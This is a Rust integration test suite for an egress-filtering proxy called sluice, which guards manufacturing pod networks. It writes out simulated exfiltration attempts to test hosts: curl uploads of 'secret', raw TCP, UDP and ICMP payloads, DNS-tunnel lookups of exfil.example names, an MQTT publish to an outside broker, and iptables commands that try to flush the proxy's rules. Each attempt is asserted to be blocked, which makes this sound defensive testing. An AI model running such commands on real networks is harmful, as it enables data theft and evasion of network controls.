//! Transparent interception in a pod network namespace: a processor that ignores every proxy
//! setting still reaches the plant, reaches the internet only where the policy allows, and
//! cannot get around sluice (the internet namespace counts every packet that arrives).
//! Needs root (network namespaces), ip, iptables, setpriv, curl, openssl, mosquitto.

mod support;

use std::net::SocketAddr;
use std::time::Duration;

use support::pod::*;

fn addr(s: &str) -> Result<SocketAddr, Error> {
    Ok(s.parse()?)
}

fn stdout_of(out: &std::process::Output) -> String {
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

#[test]
fn no_external_attempt_from_the_pod_reaches_the_internet() -> TestResult {
    if !can_run("no_external_attempt_from_the_pod_reaches_the_internet") {
        return Ok(());
    }
    let ns = Netns::new("leak")?;
    let reply: &'static [u8] = b"HTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\ninternet";
    for a in [
        "198.18.0.2:80",
        "[2001:db8:77::2]:80",
        "198.18.0.2:443",
        "198.18.0.2:1883",
        "198.18.0.2:5555",
        "[2001:db8:77::2]:5555",
    ] {
        tcp_server(&ns.internet, addr(a)?, reply, false)?;
    }
    resolver(
        &ns.internet,
        addr("198.18.0.2:53")?,
        &[("secret-batch-42.exfil.example", "198.18.0.2")],
        None,
    )?;
    let plant_dns = resolver(
        &ns.plant,
        addr("10.77.1.1:53")?,
        &[],
        Some(addr("198.18.0.2:53")?),
    )?;

    // Control: without the rules the pod reaches the internet, and the counters see it.
    let control = pod_tcp(&ns, addr("198.18.0.2:5555")?, b"control".to_vec())?;
    assert!(control.is_ok(), "control connection failed: {control:?}");
    assert!(
        ns.internet_packets()? > 0,
        "the internet counters saw nothing of the control connection"
    );
    ns.zero_internet_counters()?;

    let config = sluice_config(&ns, "[]")?;
    ns.apply_rules(&config)?;
    let _sluice = start_sluice(&ns, &config)?;

    for url in ["http://198.18.0.2/upload", "http://[2001:db8:77::2]/upload"] {
        let out = ns.client_output(&[
            "curl",
            "-s",
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
            "-m",
            "5",
            "-d",
            "secret",
            url,
        ])?;
        assert_eq!(
            stdout_of(&out),
            "403",
            "{url}: plain HTTP to the internet must be refused"
        );
    }
    for to in ["198.18.0.2:5555", "[2001:db8:77::2]:5555"] {
        let got = pod_tcp(&ns, addr(to)?, b"raw secret bytes".to_vec())?;
        assert!(
            got.as_ref().map_or(true, |b| b.is_empty()),
            "{to}: raw TCP got an answer: {got:?}"
        );
    }
    for sni in ["historian.plant.local", "198.18.0.2", "cdn.example.com"] {
        let out = ns.client_output(&[
            "timeout",
            "5",
            "openssl",
            "s_client",
            "-connect",
            "198.18.0.2:443",
            "-servername",
            sni,
        ])?;
        assert!(
            !stdout_of(&out).contains("BEGIN CERTIFICATE"),
            "TLS with SNI {sni} reached a server"
        );
    }
    let out = ns.client_output(&[
        "mosquitto_pub",
        "-h",
        INTERNET,
        "-p",
        "1883",
        "-t",
        "plant/line1/raw",
        "-m",
        "secret",
        "-q",
        "1",
    ])?;
    assert!(
        !out.status.success(),
        "an MQTT publish to an external broker succeeded"
    );
    for to in ["198.18.0.2:5353", "[2001:db8:77::2]:5353"] {
        assert_eq!(
            pod_udp(&ns, addr(to)?, b"udp secret".to_vec())?,
            None,
            "{to}: UDP got an answer"
        );
    }
    pod_ping(&ns, INTERNET.parse()?, b"icmp payload secret")?;
    pod_ping(&ns, INTERNET6.parse()?, b"icmp payload secret")?;
    for resolver in ["198.18.0.2:53", "10.77.1.1:53"] {
        let answer = pod_udp(
            &ns,
            addr(resolver)?,
            dns_query(7, "secret-batch-42.exfil.example")?,
        )?
        .ok_or("no DNS answer")?;
        assert_eq!(
            dns_answer(&answer)?,
            ("Refused".to_string(), vec![]),
            "lookup via {resolver}"
        );
    }
    let mut framed = Vec::new();
    let q = dns_query(8, "secret-batch-43.exfil.example")?;
    framed.extend_from_slice(&(q.len() as u16).to_be_bytes());
    framed.extend_from_slice(&q);
    let tcp_answer = pod_tcp(&ns, addr("198.18.0.2:53")?, framed)??;
    assert_eq!(
        dns_answer(tcp_answer.get(2..).ok_or("short TCP answer")?)?.0,
        "Refused"
    );

    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(
        ns.internet_packets()?,
        0,
        "packets from the pod reached the internet"
    );
    assert_eq!(
        plant_dns.load(std::sync::atomic::Ordering::Relaxed),
        0,
        "the plant resolver was asked"
    );
    let m = metrics(&ns)?;
    assert!(
        metric(
            &m,
            "sluice_decisions_total{protocol=\"dns\",operation=\"lookup\",verdict=\"deny\"}"
        ) >= 3.0,
        "{m}"
    );
    assert!(
        metric(
            &m,
            "sluice_decisions_total{protocol=\"tcp\",operation=\"tunnel\",verdict=\"deny\"}"
        ) >= 2.0,
        "{m}"
    );
    Ok(())
}

#[test]
fn local_traffic_needs_no_proxy_settings_and_allowed_exports_arrive() -> TestResult {
    if !can_run("local_traffic_needs_no_proxy_settings_and_allowed_exports_arrive") {
        return Ok(());
    }
    let ns = Netns::new("local")?;
    let page: &'static [u8] =
        b"HTTP/1.1 200 OK\r\nContent-Length: 8\r\nConnection: close\r\n\r\nplant-ok";
    tcp_server(&ns.plant, addr("10.77.1.1:8080")?, page, false)?;
    tcp_server(&ns.plant, addr("[fd00:77:1::1]:8080")?, page, false)?;
    tcp_server(
        &ns.plant,
        addr("10.77.1.1:2222")?,
        b"SSH-2.0-plant\r\n",
        true,
    )?;
    let exported = tcp_server(&ns.internet, addr("198.18.0.2:9000")?, b"export-ok", false)?;
    resolver(
        &ns.internet,
        addr("198.18.0.2:53")?,
        &[("allowed.example", "198.18.0.2")],
        None,
    )?;
    resolver(
        &ns.plant,
        addr("10.77.1.1:53")?,
        &[
            ("historian.plant.local", "10.77.1.1"),
            ("rebind.plant.local", "198.18.0.2"),
        ],
        Some(addr("198.18.0.2:53")?),
    )?;
    let _broker = start_mosquitto(&ns)?;
    let allow = r#"[{"name": "aggregates", "host": "allowed.example", "port": 9000, "protocols": ["tcp"]},
                    {"name": "lookup", "host": "allowed.example", "protocols": ["dns"]}]"#;
    let config = sluice_config(&ns, allow)?;
    ns.apply_rules(&config)?;
    let _sluice = start_sluice(&ns, &config)?;

    for url in [
        "http://10.77.1.1:8080/line1",
        "http://[fd00:77:1::1]:8080/line1",
    ] {
        let out = ns.client_output(&["curl", "-s", "-m", "5", url])?;
        assert_eq!(stdout_of(&out), "plant-ok", "{url}");
    }
    let _tls = start_tls_server(&ns)?;
    let out = ns.client_output(&[
        "curl",
        "-sk",
        "-m",
        "5",
        "-o",
        "/dev/null",
        "-w",
        "%{http_code}",
        "--resolve",
        "historian.plant.local:8443:10.77.1.1",
        "https://historian.plant.local:8443/",
    ])?;
    assert_eq!(
        stdout_of(&out),
        "200",
        "TLS to a plant server through the transparent path"
    );
    let banner = pod_banner(&ns, addr("10.77.1.1:2222")?)?;
    assert_eq!(
        banner, "SSH-2.0-plant",
        "a server-first protocol must work after sniff_timeout"
    );

    let out = ns.client_output(&[
        "mosquitto_pub",
        "-h",
        PLANT,
        "-t",
        "plant/line1/temp",
        "-m",
        "21.5",
        "-r",
        "-q",
        "1",
    ])?;
    assert!(
        out.status.success(),
        "publish to the plant broker: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let got = ns.exec(
        &ns.plant,
        &[
            "mosquitto_sub",
            "-h",
            PLANT,
            "-t",
            "plant/line1/temp",
            "-C",
            "1",
            "-W",
            "5",
        ],
    )?;
    assert_eq!(got.trim(), "21.5");

    // Before any lookup the address is only an address: the allowlist names a host.
    let before = pod_tcp(&ns, addr("198.18.0.2:9000")?, b"aggregate".to_vec())?;
    assert!(
        before.as_ref().map_or(true, |b| b.is_empty()),
        "export before the lookup: {before:?}"
    );
    let local = pod_udp(
        &ns,
        addr("10.77.1.1:53")?,
        dns_query(1, "historian.plant.local")?,
    )?
    .ok_or("no answer")?;
    assert_eq!(
        dns_answer(&local)?,
        ("NoError".to_string(), vec![PLANT.parse()?])
    );
    let rebound = pod_udp(
        &ns,
        addr("10.77.1.1:53")?,
        dns_query(2, "rebind.plant.local")?,
    )?
    .ok_or("no answer")?;
    assert_eq!(
        dns_answer(&rebound)?.0,
        "Refused",
        "a plant name answered with an outside address"
    );
    let allowed = pod_udp(
        &ns,
        addr("198.18.0.2:53")?,
        dns_query(3, "allowed.example")?,
    )?
    .ok_or("no answer")?;
    assert_eq!(
        dns_answer(&allowed)?,
        ("NoError".to_string(), vec![INTERNET.parse()?])
    );
    let after = pod_tcp(&ns, addr("198.18.0.2:9000")?, b"aggregate".to_vec())??;
    assert_eq!(
        after, b"export-ok",
        "the allowed export did not get through"
    );
    assert_eq!(exported.load(std::sync::atomic::Ordering::Relaxed), 9);

    // Each went through its protocol's own path and was judged there.
    let m = metrics(&ns)?;
    for series in [
        "sluice_decisions_total{protocol=\"http\",operation=\"request\",verdict=\"allow\"}",
        "sluice_decisions_total{protocol=\"mqtt\",operation=\"connect\",verdict=\"allow\"}",
        "sluice_decisions_total{protocol=\"mqtt\",operation=\"publish\",verdict=\"allow\"}",
        "sluice_decisions_total{protocol=\"tcp\",operation=\"tunnel\",verdict=\"allow\"}",
        "sluice_decisions_total{protocol=\"dns\",operation=\"lookup\",verdict=\"allow\"}",
        "sluice_decisions_total{protocol=\"https\",operation=\"tunnel\",verdict=\"allow\"}",
    ] {
        assert!(metric(&m, series) >= 1.0, "no {series}");
    }
    Ok(())
}

#[test]
fn the_processor_cannot_remove_the_rules_and_a_dead_sluice_leaks_nothing() -> TestResult {
    if !can_run("the_processor_cannot_remove_the_rules_and_a_dead_sluice_leaks_nothing") {
        return Ok(());
    }
    let ns = Netns::new("dead")?;
    tcp_server(&ns.internet, addr("198.18.0.2:9000")?, b"leaked", false)?;
    tcp_server(&ns.internet, addr("198.18.0.2:80")?, b"leaked", false)?;
    let allow =
        r#"[{"name": "aggregates", "host": "198.18.0.2", "port": 9000, "protocols": ["tcp"]}]"#;
    let config = sluice_config(&ns, allow)?;
    ns.apply_rules(&config)?;
    let mut sluice = start_sluice(&ns, &config)?;
    let live = pod_tcp(&ns, addr("198.18.0.2:9000")?, b"allowed".to_vec())??;
    assert_eq!(
        live, b"leaked",
        "the allowed export must work while sluice runs"
    );

    for attempt in [
        &["iptables", "-t", "nat", "-F", "SLUICE_OUTPUT"][..],
        &[
            "iptables",
            "-t",
            "nat",
            "-D",
            "OUTPUT",
            "-j",
            "SLUICE_OUTPUT",
        ][..],
        &["iptables", "-F", "SLUICE_OUTPUT"][..],
        &["ip6tables", "-t", "nat", "-F", "SLUICE_OUTPUT"][..],
    ] {
        let out = ns.client_output(attempt)?;
        assert!(!out.status.success(), "the processor ran {attempt:?}");
    }
    let cfg = config.to_string_lossy().into_owned();
    ns.exec(
        &ns.pod,
        &[
            env!("CARGO_BIN_EXE_sluice"),
            "iptables",
            "-c",
            &cfg,
            "--check",
        ],
    )?;

    sluice.kill();
    ns.zero_internet_counters()?;
    let refused = pod_tcp(&ns, addr("198.18.0.2:9000")?, b"after death".to_vec())?;
    assert_eq!(
        refused.as_ref().map_err(|e| e.kind()),
        Err(std::io::ErrorKind::ConnectionRefused),
        "with sluice dead a connection must be refused, got {refused:?}"
    );
    let out = ns.client_output(&["curl", "-s", "-m", "5", "http://198.18.0.2/"])?;
    assert_eq!(out.status.code(), Some(7), "curl must fail to connect");
    assert_eq!(
        pod_udp(&ns, addr("198.18.0.2:53")?, dns_query(9, "x.example")?)?,
        None
    );
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(
        ns.internet_packets()?,
        0,
        "with sluice dead, packets reached the internet"
    );
    Ok(())
}

/// Live flows follow the policy on the transparent path too: a tunnel to an allowed export
/// is closed once a newer policy generation takes the allowlist entry away, and the bytes the
/// pod sends after that never reach the internet.
#[test]
fn an_open_transparent_tunnel_ends_when_the_policy_takes_its_export_away() -> TestResult {
    if !can_run("an_open_transparent_tunnel_ends_when_the_policy_takes_its_export_away") {
        return Ok(());
    }
    let ns = Netns::new("reval")?;
    let received = tcp_server(&ns.internet, addr("198.18.0.2:9000")?, b"export-ok", false)?;
    let allow =
        r#"[{"name": "aggregates", "host": "198.18.0.2", "port": 9000, "protocols": ["tcp"]}]"#;
    let config = sluice_config(&ns, allow)?;
    // Watch the policy directory, so that rewriting its data activates a new generation.
    let text = std::fs::read_to_string(&config)?.replace(
        "decision: data.manufacturing.egress\n",
        "decision: data.manufacturing.egress\n  watch: true\n  eval_timeout: 5s\n",
    );
    std::fs::write(&config, text)?;
    ns.apply_rules(&config)?;
    let sluice = start_sluice(&ns, &config)?;

    let (to_pod, from_test) = std::sync::mpsc::channel::<Vec<u8>>();
    let (to_test, results) = std::sync::mpsc::channel::<std::io::Result<Vec<u8>>>();
    spawn_in_ns(&ns.pod, move || {
        use std::io::{Read, Write};
        let to: SocketAddr = ([198, 18, 0, 2], 9000).into();
        let mut s = match std::net::TcpStream::connect_timeout(&to, Duration::from_secs(3)) {
            Ok(s) => s,
            Err(e) => return drop(to_test.send(Err(e))),
        };
        let _ = s.set_read_timeout(Some(Duration::from_secs(20)));
        for payload in from_test {
            let mut buf = [0u8; 64];
            let got = s.write_all(&payload).and_then(|_| {
                let n = s.read(&mut buf)?;
                Ok(buf[..n].to_vec())
            });
            let _ = to_test.send(got);
        }
    })?;
    let ask = |payload: &[u8]| -> Result<std::io::Result<Vec<u8>>, Error> {
        to_pod.send(payload.to_vec())?;
        Ok(results.recv_timeout(Duration::from_secs(25))?)
    };
    let first = ask(b"aggregate-1")?;
    assert_eq!(first.ok().as_deref(), Some(&b"export-ok"[..]));
    let before = received.load(std::sync::atomic::Ordering::Relaxed);
    assert_eq!(before, 11);

    ns.write(
        "policy/manufacturing/data.json",
        "{\"export_allowlist\": []}",
    )?;
    let revoked = "sluice_flows_revoked_total{protocol=\"tcp\"}";
    let seen = poll_until(Duration::from_secs(30), || {
        metrics(&ns).is_ok_and(|m| metric(&m, revoked) >= 1.0)
    });
    let log = sluice.log.lock().map(|l| l.clone()).unwrap_or_default();
    assert!(seen, "the tunnel was not revoked:\n{log}");
    // The tunnel is closed: the next write or read fails or sees the end, and nothing more
    // arrives at the internet server.
    let after = ask(b"aggregate-2")?;
    assert!(
        after.as_ref().map_or(true, |b| b.is_empty()),
        "the revoked tunnel still answered: {after:?}"
    );
    assert_eq!(received.load(std::sync::atomic::Ordering::Relaxed), before);
    assert!(log.contains("open flow ended"), "{log}");
    Ok(())
}

#[test]
fn repeated_lookups_come_from_the_answer_cache_and_are_judged_every_time() -> TestResult {
    use hickory_proto::op::Message;
    use std::sync::atomic::Ordering::Relaxed;
    if !can_run("repeated_lookups_come_from_the_answer_cache_and_are_judged_every_time") {
        return Ok(());
    }
    let ns = Netns::new("dnscache")?;
    let internet_dns = resolver(
        &ns.internet,
        addr("198.18.0.2:53")?,
        &[("allowed.example", "198.18.0.2")],
        None,
    )?;
    let plant_dns = resolver(
        &ns.plant,
        addr("10.77.1.1:53")?,
        &[
            ("historian.plant.local", "10.77.1.1"),
            ("rebind.plant.local", "198.18.0.2"),
        ],
        Some(addr("198.18.0.2:53")?),
    )?;
    let allow = r#"[{"name": "lookup", "host": "allowed.example", "protocols": ["dns"]}]"#;
    let config = sluice_config(&ns, allow)?;
    let text = std::fs::read_to_string(&config)?.replace(
        "decision: data.manufacturing.egress\n",
        "decision: data.manufacturing.egress\n  watch: true\n",
    );
    std::fs::write(&config, text)?;
    ns.apply_rules(&config)?;
    let _sluice = start_sluice(&ns, &config)?;
    let lookup = |id: u16, name: &str| -> Result<Message, Error> {
        let answer = pod_udp(&ns, addr("10.77.1.1:53")?, dns_query(id, name)?)?
            .ok_or_else(|| format!("no answer for {name}"))?;
        Ok(Message::from_vec(&answer)?)
    };
    let ips =
        |m: &Message| -> Vec<String> { m.answers().iter().map(|r| r.data().to_string()).collect() };

    // A plant name: asked three times (the last spelled otherwise), resolved once.
    for (id, name) in [
        (1, "historian.plant.local"),
        (2, "historian.plant.local"),
        (3, "HISTORIAN.Plant.Local"),
    ] {
        let m = lookup(id, name)?;
        assert_eq!(m.id(), id, "{name}: the answer must carry the query's id");
        assert_eq!(ips(&m), vec!["10.77.1.1"], "{name}");
        assert_eq!(
            m.queries().first().map(|q| q.name().to_ascii()),
            Some(format!("{name}.")),
            "the answer repeats the question as the client spelled it"
        );
        let ttl = m.answers().first().map(|r| r.ttl());
        assert!(ttl.is_some_and(|t| t <= 30), "TTL {ttl:?} over max_ttl");
    }
    assert_eq!(
        plant_dns.load(Relaxed),
        1,
        "the plant resolver was asked again"
    );

    // An allowed export name: judged each time, looked up once.
    for id in 4..7 {
        let m = lookup(id, "allowed.example")?;
        assert_eq!(ips(&m), vec!["198.18.0.2"]);
    }
    assert_eq!(internet_dns.load(Relaxed), 1);
    assert_eq!(plant_dns.load(Relaxed), 2);

    // A plant name answered with an outside address: refused every time, cached or not.
    for id in 7..9 {
        let m = lookup(id, "rebind.plant.local")?;
        assert_eq!(format!("{:?}", m.response_code()), "Refused");
    }
    assert_eq!(plant_dns.load(Relaxed), 3);

    let m = metrics(&ns)?;
    let decisions = |verdict: &str| {
        metric(
            &m,
            &format!(
                "sluice_decisions_total{{protocol=\"dns\",operation=\"lookup\",verdict=\"{verdict}\"}}"
            ),
        )
    };
    assert_eq!((decisions("allow"), decisions("deny")), (3.0, 2.0), "{m}");
    assert_eq!(
        metric(&m, "sluice_dns_cache_total{result=\"hit\"}"),
        5.0,
        "{m}"
    );
    assert_eq!(
        metric(&m, "sluice_dns_cache_total{result=\"miss\"}"),
        3.0,
        "{m}"
    );

    // The policy takes the export away: the cached answer is not given out any more.
    ns.write(
        "policy/manufacturing/data.json",
        "{\"export_allowlist\": []}",
    )?;
    let mut id = 100;
    let refused = poll_until(Duration::from_secs(30), || {
        id += 1;
        lookup(id, "allowed.example").is_ok_and(|m| format!("{:?}", m.response_code()) == "Refused")
    });
    assert!(
        refused,
        "a cached answer outlived the policy that allowed it"
    );
    assert_eq!(internet_dns.load(Relaxed), 1);
    Ok(())
}
